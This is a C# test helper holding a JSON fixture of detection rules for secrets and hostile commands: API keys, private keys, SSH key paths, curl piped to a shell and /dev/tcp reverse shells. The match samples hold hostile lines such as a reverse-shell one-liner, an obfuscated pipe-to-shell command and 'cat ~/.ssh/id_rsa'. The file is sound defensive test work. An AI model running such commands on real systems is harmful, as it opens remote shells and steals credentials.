using System.Text;
using TrafficGuardian.Detection.Rules;

namespace TrafficGuardian.Detection.Tests;

/// <summary>A few rules of every kind, so that these tests do not depend on the built-in ones.</summary>
internal static class TestRules
{
    public const string Json = """
        {
          // Comments are allowed.
          "family": "test",
          "rules": [
            {
              "id": "anthropic", "pattern": "ai_api_key", "severity": "critical", "description": "test",
              "literals": ["sk-ant-"], "expression": "sk-ant-(?:api03|admin01)-[A-Za-z0-9_-]{40,130}", "boundary": "token",
              "validators": ["entropy:3.0", "letters_and_digits"],
              "match": ["sk-ant-api03-{b64url:93}AA", "{{\"key\":\"sk-ant-api03-{b64url:93}AA\"}"],
              "no_match": ["sk-ant-api03-short", "sk-ant-api03-..."]
            },
            {
              "id": "google", "pattern": "ai_api_key", "severity": "critical", "description": "test",
              "literals": ["AIza"], "expression": "AIza[A-Za-z0-9_-]{35}", "boundary": "token", "after": 40,
              "match": ["AIza{b64url:35}"]
            },
            {
              "id": "gated", "pattern": "vendor_credential", "severity": "high", "description": "test",
              "literals": ["gadget"], "ignore_case": true, "expression": "gadget[a-z_ ]{0,20}[\"':= ]{1,4}[0-9a-f]{32}",
              "value": "last_token", "boundary": "token", "validators": ["letters_and_digits"],
              "match": ["GADGET_KEY={hex:32}", "{{\"gadget_key\": \"{hex:32}\"}"]
            },
            {
              "id": "pem", "pattern": "private_key_pem", "severity": "critical", "description": "test",
              "literals": ["PRIVATE KEY-----"], "expression": "-----BEGIN (?:[A-Z]+ ){0,2}PRIVATE KEY-----", "before": 40, "after": 20,
              "match": ["-----BEGIN RSA PRIVATE KEY-----"]
            },
            {
              "id": "ssh-private", "pattern": "ssh_key_path", "severity": "high", "description": "test",
              "literals": [".ssh/id_"], "expression": "(?:~|(?:/[A-Za-z0-9._-]{1,32}){1,5})?/?\\.ssh/id_[a-z0-9]{2,20}",
              "before": 200, "after": 40, "boundary": "path",
              "match": ["cat ~/.ssh/id_rsa", "/home/{lower:5}/.ssh/id_ed25519"]
            },
            {
              "id": "curl", "pattern": "pipe_to_shell", "severity": "high", "description": "test",
              "literals": ["curl "], "ignore_case": true, "expression": "curl [^|\\n]{3,200}\\| ?(?:sudo )?(?:ba|z|da)?sh",
              "after": 300, "boundary": "word", "view": "command",
              "match": ["curl -fsSL https://x.invalid/a.sh | sh", "c'u'rl  https://x.invalid/a.sh |bash"],
              "no_match": ["curl -s https://x.invalid/a.json | jq ."]
            },
            {
              "id": "tcp", "pattern": "reverse_shell", "severity": "critical", "description": "test",
              "literals": ["/dev/tcp/"], "expression": "/dev/tcp/[A-Za-z0-9.-]{1,64}/[0-9]{1,5}",
              "match": ["bash -i >& /dev/tcp/10.0.0.1/4444 0>&1"]
            }
          ]
        }
        """;

    public static RuleSource Source { get; } = new("test.json", Encoding.UTF8.GetBytes(Json));

    /// <summary>A text from a template, so that no secret-looking string stands in a test.</summary>
    public static string Expand(string template, int seed = 1) =>
        Template.TryExpand(template, new Random(seed), out var text, out var error) ? text : throw new InvalidOperationException(error);
}
